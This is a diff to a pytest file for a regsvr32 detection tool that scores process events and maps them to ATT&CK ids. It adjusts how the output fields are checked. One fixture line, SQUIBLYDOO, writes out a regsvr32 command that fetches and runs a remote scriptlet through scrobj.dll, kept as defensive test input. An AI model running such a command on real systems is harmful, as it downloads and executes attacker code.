@@ -1,13 +1,14 @@
 """Verdicts: score, severity, reasons, ATT&CK ids, allowlisted findings and errors."""
 import pytest
 
-from regsvr32_detector import OUTPUT_FIELDS, RULES_BY_ID, Detector, load_allowlists
+from regsvr32_detector import OUTPUT_FIELDS, OUTPUTS, RULES_BY_ID, Detector, load_allowlists
 from support.events import proc
 
 from support.allowlists import HEADER, allowlist_row
 
 pytestmark = pytest.mark.pure
 
+STORED_FIELDS = [o.name for o in OUTPUTS if o.derive is None]
 SQUIBLYDOO = proc("regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll")
 
 
@@ -31,7 +32,8 @@ def test_fields_are_the_output_contract():
 
 def test_ordinary_row_scores_zero_with_every_field():
     f = Detector().evaluate({"process_name": "notepad.exe", "process": "notepad"}).fields()
-    assert f == {"regsvr32_score": "0", "regsvr32_severity": "none", "regsvr32_rules": [],
+    assert set(f) == set(OUTPUT_FIELDS)
+    assert dict((k, f[k]) for k in STORED_FIELDS) == {"regsvr32_score": "0", "regsvr32_severity": "none", "regsvr32_rules": [],
                  "regsvr32_reasons": [], "regsvr32_mitre": [], "regsvr32_allowlisted": [], "regsvr32_error": "",
                  "regsvr32_signature": ""}
 
